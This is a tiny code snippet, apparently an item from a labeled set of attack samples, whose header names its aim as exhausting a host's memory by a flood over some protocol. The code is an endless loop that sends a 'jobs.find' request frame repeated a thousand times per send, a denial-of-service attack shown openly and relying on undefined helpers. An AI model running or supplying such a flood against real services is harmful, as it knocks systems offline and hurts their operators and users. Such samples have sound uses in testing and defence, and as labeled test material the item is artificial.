# aim: the host's memory, by a flood
# kind: protocol
# source: own
# ends: protocol
while True:
    send(frame([66, 1, 'jobs.find', []]) * 1000)
